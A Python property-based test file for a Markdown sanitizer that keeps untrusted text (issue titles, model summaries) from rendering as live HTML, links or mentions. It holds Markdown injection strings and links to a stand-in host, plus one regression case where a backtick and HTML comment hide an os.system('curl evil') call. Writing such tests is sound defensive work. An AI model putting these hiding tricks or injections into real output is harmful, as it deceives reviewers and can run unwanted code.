"""Untrusted text is data when rendered: hostile strings through jobs/basics/markdown_safe.py,
parsed back with a CommonMark parser (markdown-it-py, GFM tables and strikethrough on), show
exactly the input and make no HTML, link, image or mention."""

from __future__ import annotations

import re

from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from jobs.basics import markdown_safe as md

PARSER = MarkdownIt("commonmark").enable(["table", "strikethrough"])
FORBIDDEN = {"html_inline", "html_block", "link_open", "image", "autolink"}
MENTION = re.compile(r"@[A-Za-z0-9]|#\d|GH-\d|://|www\.", re.IGNORECASE)
HOSTILE = ["`", "``", "```", "````", "~~~", "<!--", "-->", "<b>", "</details>", "@", "@team",
           "#12", "GH-7", "https://evil.example", "www.evil.example", "[x](y)", "![i](u)",
           "*", "_", "**", "\\", "|", "&amp;", "&#96;", "$x$", "# ", "> ", "- ", "1. ", "    ",
           "\t", " ", "\n", "\n```\n", "a", "é", "Ω", "x:y", "=", "---", "<http://a.b>",
           "[details](https://evil.example)", "[details](https://evil.example/a_b)"]
hostile_text = st.lists(st.sampled_from(HOSTILE) | st.text(
    alphabet=st.characters(min_codepoint=0x20, max_codepoint=0x17F), max_size=5),
    max_size=12).map("".join)


def _tokens(source: str) -> list[Token]:
    flat: list[Token] = []
    for token in PARSER.parse(source):
        flat.append(token)
        flat.extend(token.children or [])
    return flat


def _visible(source: str) -> tuple[str, list[Token]]:
    tokens = _tokens(source)
    parts = []
    for token in tokens:
        if token.type in ("text", "code_inline"):
            parts.append(token.content)
        elif token.type in ("softbreak", "hardbreak"):
            parts.append("\n")
        elif token.type in ("fence", "code_block"):
            parts.append(token.content)
    return "".join(parts).replace(md.ZWJ, ""), tokens


def _assert_inert(tokens: list[Token]) -> None:
    assert not FORBIDDEN & {token.type for token in tokens}
    for token in tokens:
        if token.type == "text":
            assert not MENTION.search(token.content), token.content


@settings(max_examples=200, deadline=None, derandomize=True)
@given(hostile_text)
def test_prose_shows_the_input_and_makes_nothing_live(value: str) -> None:
    expected = value.replace("\n", " ")
    for source, shown in ((md.text(value), expected),
                          (f"Plan: {md.text(value)} (end)", f"Plan: {expected} (end)")):
        visible, tokens = _visible(source)
        assert visible == shown, (value, source)
        _assert_inert(tokens)
        assert [t.type for t in tokens][:1] in ([], ["paragraph_open"]), source


@settings(max_examples=200, deadline=None, derandomize=True)
@given(hostile_text)
def test_a_code_span_cannot_be_ended_from_inside(value: str) -> None:
    expected = value.replace("\n", md.NEWLINE_MARK) or " "
    visible, tokens = _visible(f"run {md.code(value)} on every batch")
    assert visible == f"run {expected} on every batch", value
    assert [t.type for t in tokens if t.type not in ("paragraph_open", "paragraph_close",
                                                     "inline")] == ["text", "code_inline",
                                                                    "text"]


@settings(max_examples=150, deadline=None, derandomize=True)
@given(hostile_text)
def test_a_code_span_in_a_table_cell_stays_in_its_cell(value: str) -> None:
    source = f"| command | exit |\n|---|---|\n| {md.code(value, in_table=True)} | 1 |\n"
    tokens = _tokens(source)
    cells = [t for t in tokens if t.type == "td_open"]
    assert len(cells) == 2, source
    codes = [t.content for t in tokens if t.type == "code_inline"]
    assert codes == [value.replace("\n", md.NEWLINE_MARK) or " "], source


@settings(max_examples=200, deadline=None, derandomize=True)
@given(hostile_text)
def test_a_fenced_block_cannot_be_closed_from_inside(value: str) -> None:
    value = value.rstrip("\n")
    source = f"Output:\n\n{md.block(value)}\n\nTo approve: `/stepwise approve`"
    tokens = _tokens(source)
    fences = [t for t in tokens if t.type == "fence"]
    assert len(fences) == 1 and fences[0].content == value + "\n", source
    assert not FORBIDDEN & {t.type for t in tokens}
    assert [t.content for t in tokens if t.type == "code_inline"] == ["/stepwise approve"]


def test_the_finding_a_backtick_and_an_html_comment_no_longer_hide_the_codemod() -> None:
    run = 'python -c "import sys #` <!-- \nimport os; os.system(\'curl evil\') -->'
    visible, tokens = _visible(f"- Recipe: `command`, run {md.code(run)}")
    assert "os.system('curl evil')" in visible and "<!--" in visible
    _assert_inert(tokens)


@settings(max_examples=200, deadline=None, derandomize=True)
@given(hostile_text, hostile_text)
def test_a_message_keeps_its_code_spans_and_nothing_else_is_live(path: str, reason: str) -> None:
    source = md.message(f"refused `{path}`: {reason}")
    _visible_text, tokens = _visible(source)
    _assert_inert(tokens)
    assert not {"em_open", "strong_open", "s_open", "heading_open", "blockquote_open",
                "ordered_list_open", "table_open", "hr", "code_block"} & {t.type for t in tokens}


LINKS = ["[details](https://evil.example)", "see [details](https://evil.example/x) now",
         "[click](https://evil.example)", "![i](https://evil.example/i.png)",
         "<https://evil.example>", "https://evil.example", "www.evil.example",
         "[a][r]\n\n[r]: https://evil.example", "[details](<https://evil.example>)",
         "[details]( https://evil.example )", "[details](https://evil.example \"t\")"]


def test_no_renderer_keeps_a_link_from_untrusted_text() -> None:
    """An issue title or a model's summary carrying a link, in every form Markdown has, comes
    out of every renderer with no live link (Stepwise's old `[details](...)` exception too)."""
    for value in LINKS:
        for source in (md.text(value), md.message(value), md.message(f"- {value}"),
                       md.message(f"summary: {value}", in_table=True), md.code(value)):
            _visible_text, tokens = _visible(source)
            _assert_inert(tokens)
